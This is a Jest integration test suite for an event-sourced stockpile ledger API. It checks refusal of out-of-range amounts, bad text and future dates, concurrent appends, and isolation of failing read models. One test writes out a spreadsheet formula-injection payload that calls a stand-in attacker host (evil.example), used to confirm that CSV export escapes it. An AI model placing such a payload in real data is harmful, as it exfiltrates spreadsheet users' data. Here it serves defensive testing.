import { newId, openSqliteDatabase, SqliteEventStore } from '@ledger/event-store';
import { join } from 'node:path';
import { rebuildCommand } from '../apps/cli/src/commands/rebuild.command';
import { parseArguments } from '../apps/cli/src/cli-arguments';
import { expectFieldRefused } from './support/command-checks';
import { expectProblem, LedgerHarness } from './support/ledger-harness';
import { acquisition, reserveTemplate } from './support/stockpile-scenarios';

/*
 * Issue 10's repros, each through the HTTP API of a real ledger: nothing poisonous gets into the log, and
 * nothing derived from it ever stops silently.
 */

const STOCKPILE = reserveTemplate.id;
const ACQUISITIONS = `/stockpiles/${STOCKPILE}/acquisitions`;

describe('A ledger hardened against poisonous input', () => {
  let ledger: LedgerHarness;

  beforeEach(async () => {
    ledger = await LedgerHarness.start();
    expect((await ledger.post('/stockpiles', reserveTemplate)).status).toBe(201);
  });
  afterEach(async () => {
    await ledger.stop();
  });

  const head = async () => BigInt((await ledger.get('/audit/digest', 'auditor')).body.position);

  describe('bounds of values (DOMAIN.md)', () => {
    it('refuses 10^13 t as out-of-range, appends nothing, and the read models go on (repro 1)', async () => {
      const before = await head();
      const response = await ledger.post(ACQUISITIONS, {
        ...acquisition,
        quantity: { amount: '10000000000000', unit: 't' },
      });
      expectFieldRefused(response, 'quantity.amount', 'out-of-range');
      expect(await head()).toBe(before);
      const fine = await ledger.post(ACQUISITIONS, acquisition);
      expect((await ledger.get(`/inventory?minPosition=${fine.body.position}`)).status).toBe(200);
      expect((await ledger.request('GET', '/ready')).status).toBe(200);
    });

    it('refuses a 40-digit amount in t without appending anything, and the stockpile takes commands after (repro 2)', async () => {
      const before = await head();
      const response = await ledger.post(ACQUISITIONS, {
        ...acquisition,
        quantity: { amount: '9'.repeat(40), unit: 't' },
      });
      expectFieldRefused(response, 'quantity.amount', 'out-of-range');
      expect(await head()).toBe(before);
      expect((await ledger.post(ACQUISITIONS, acquisition)).status).toBe(200);
    });

    it.each([
      [
        'an acquisition',
        ACQUISITIONS,
        (amount: unknown) => ({ ...acquisition, quantity: amount }),
        'quantity',
      ],
      [
        'a capacity',
        '/projects/becancour/capacity',
        (amount: unknown) => ({ material: 'graphite-anode', annualCapacity: amount }),
        'annualCapacity',
      ],
      [
        'a trade flow',
        '/supply/trade-flows',
        (amount: unknown) => ({
          importer: 'JP',
          exporter: 'CN',
          material: 'gallium',
          year: 2024,
          annualQuantity: amount,
        }),
        'annualQuantity',
      ],
      [
        'a consumption',
        '/supply/consumption',
        (amount: unknown) => ({ country: 'JP', material: 'gallium', year: 2024, annualQuantity: amount }),
        'annualQuantity',
      ],
    ])('refuses 10^38 kg on %s as out-of-range (repro 3)', async (_case, path, body, field) => {
      await ledger.post('/projects', {
        id: 'becancour',
        name: 'Bécancour',
        operator: 'NMG',
        country: 'CA',
        materials: ['graphite-anode'],
        stage: 'construction',
        effectiveAt: '2022-08-01',
      });
      const before = await head();
      const response = await ledger.post(path, body({ amount: '9'.repeat(38), unit: 'kg' }));
      expectFieldRefused(response, `${field}.amount`, 'out-of-range');
      expect(await head()).toBe(before);
    });

    it('trims names to their canonical form and refuses control characters and overlong text', async () => {
      const trimmed = await ledger.post(ACQUISITIONS, { ...acquisition, location: '  Yokohama  ' });
      const stream = (await ledger.get(`/streams/stockpile-${STOCKPILE}`, 'auditor')).body.events;
      expect(trimmed.status).toBe(200);
      expect(stream[stream.length - 1].data.location).toBe('Yokohama');
      expectFieldRefused(
        await ledger.post(ACQUISITIONS, { ...acquisition, location: 'Yoko\u0000hama' }),
        'location',
      );
      expectFieldRefused(
        await ledger.post(ACQUISITIONS, { ...acquisition, location: 'x'.repeat(201) }),
        'location',
        'out-of-range',
      );
    });
  });

  describe('time rules (DOMAIN.md)', () => {
    it('refuses stock effective before the stockpile was established (repro 9)', async () => {
      expectProblem(
        await ledger.post(ACQUISITIONS, { ...acquisition, effectiveAt: '2025-12-01' }),
        422,
        'before-establishment',
      );
    });

    it('refuses an acquisition effective in the future, beyond five minutes of clock skew', async () => {
      const tomorrow = new Date(Date.now() + 86_400_000).toISOString();
      expectProblem(
        await ledger.post(ACQUISITIONS, { ...acquisition, effectiveAt: tomorrow }),
        422,
        'effective-in-future',
      );
    });
  });

  describe('reports', () => {
    it('refuses a knownAt beyond the head of the log, as a position or a future time (repro 10)', async () => {
      const beyond = (await head()) + 99_999n;
      expectProblem(
        await ledger.get(`/exposure/KR/germanium?knownAt=${beyond}`),
        400,
        'known-at-beyond-head',
      );
      const future = new Date(Date.now() + 3_600_000).toISOString();
      expectProblem(
        await ledger.get(`/inventory?knownAt=${encodeURIComponent(future)}`),
        400,
        'known-at-beyond-head',
      );
      expect((await ledger.get(`/inventory?knownAt=${await head()}`)).status).toBe(200);
    });

    it('writes a cell a spreadsheet would take for a formula with a leading quote (repro 6)', async () => {
      const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
      const acquired = await ledger.post(ACQUISITIONS, { ...acquisition, location: formula });
      const csv = await ledger.get(`/inventory?format=csv&minPosition=${acquired.body.position}`);
      expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
      expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    });
  });

  describe('a hot stream', () => {
    it('takes 32 concurrent acquisitions into one stockpile without refusing one (repro 13)', async () => {
      const responses = await Promise.all(
        Array.from({ length: 32 }, (_unused, index) =>
          ledger.post(ACQUISITIONS, { ...acquisition, lotId: `lot-${index}` }),
        ),
      );
      expect(responses.map((response) => response.status)).toEqual(Array(32).fill(200));
      const revisions = responses.map((response) => Number(response.body.revision)).sort((a, b) => a - b);
      expect(revisions).toEqual(Array.from({ length: 32 }, (_unused, index) => index + 1));
    });
  });

  describe('an event the read models cannot take (appended behind the API)', () => {
    /** Appends straight into the store, as a bug or an older version might have. */
    async function appendBehindTheApi(
      data: Record<string, unknown>,
    ): Promise<{ position: bigint; eventId: string }> {
      const db = openSqliteDatabase(join(ledger.dataDir, 'ledger.sqlite'));
      try {
        const store = new SqliteEventStore(db);
        const [last] = (await store.readStream(`stockpile-${STOCKPILE}`)).slice(-1);
        const eventId = newId();
        const result = await store.append(
          `stockpile-${STOCKPILE}`,
          [
            {
              eventId,
              type: 'StockpileAcquired',
              schemaVersion: 1,
              effectiveAt: '2026-02-01T00:00:00.000Z',
              data,
              metadata: { actor: { name: 'legacy', roles: [] }, correlationId: 'c', causationId: 'c' },
            },
          ],
          last!.revision,
        );
        return { position: result.position, eventId };
      } finally {
        db.close();
      }
    }

    it('sums quantities recorded before the bounds existed exactly, far beyond 64 bits', async () => {
      const huge = { ...acquisition, lotId: 'legacy', quantity: { amount: '10000000000000000', unit: 'kg' } };
      await appendBehindTheApi(huge);
      const { position } = await appendBehindTheApi({ ...huge, lotId: 'legacy-2' });
      const inventory = await ledger.get(`/inventory?minPosition=${position}`);
      expect(inventory.body.rows).toEqual([
        expect.objectContaining({ acquired: '20000000000000000', onHand: '20000000000000000' }),
      ]);
    });

    it('parks only the read model that fails, names it in /ready and /metrics, and rebuild names the event', async () => {
      const poison = await appendBehindTheApi({
        ...acquisition,
        lotId: 'bad',
        quantity: { amount: '1e5', unit: 'kg' },
      });
      const after = await ledger.post('/supply/consumption', {
        country: 'JP',
        material: 'gallium',
        year: 2024,
        annualQuantity: { amount: '80', unit: 't' },
      });
      // the other read models go past the poisonous event
      const deadline = Date.now() + 10_000;
      let ready = await ledger.request('GET', '/ready');
      while (ready.body.readModels?.supply_v2?.checkpoint !== after.body.position && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        ready = await ledger.request('GET', '/ready');
      }
      expect(ready.status).toBe(503);
      expect(ready.body.status).toBe('failed');
      expect(ready.body.readModels.supply_v2).toMatchObject({ checkpoint: after.body.position });
      expect(ready.body.readModels.inventory_v2).toMatchObject({
        checkpoint: String(poison.position - 1n),
        failed: { position: String(poison.position), eventId: poison.eventId, error: expect.any(String) },
      });
      expect((await ledger.get('/supply/consumption?minPosition=' + after.body.position)).status).toBe(200);
      const metrics = await ledger.get('/metrics');
      expect(metrics.text).toMatch(/ledger_projection_failures_total\{model="inventory_v2"\} [1-9]/);
      expect(metrics.text).toContain('ledger_projection_stopped{model="inventory_v2"} 1');
      expect(metrics.text).toContain('ledger_projection_stopped{model="supply_v2"} 0');

      const written: string[] = [];
      const stderr = jest.spyOn(process.stderr, 'write').mockImplementation((chunk) => {
        written.push(String(chunk));
        return true;
      });
      const stdout = jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
      try {
        const code = await rebuildCommand.run(
          parseArguments(['--data-dir', ledger.dataDir, '--no-progress']),
        );
        expect(code).toBe(1);
      } finally {
        stderr.mockRestore();
        stdout.mockRestore();
      }
      expect(written.join('')).toContain(`position ${poison.position} (event ${poison.eventId})`);
      expect(written.join('')).not.toMatch(/\n\s+at /); // no stack trace
    });
  });
});
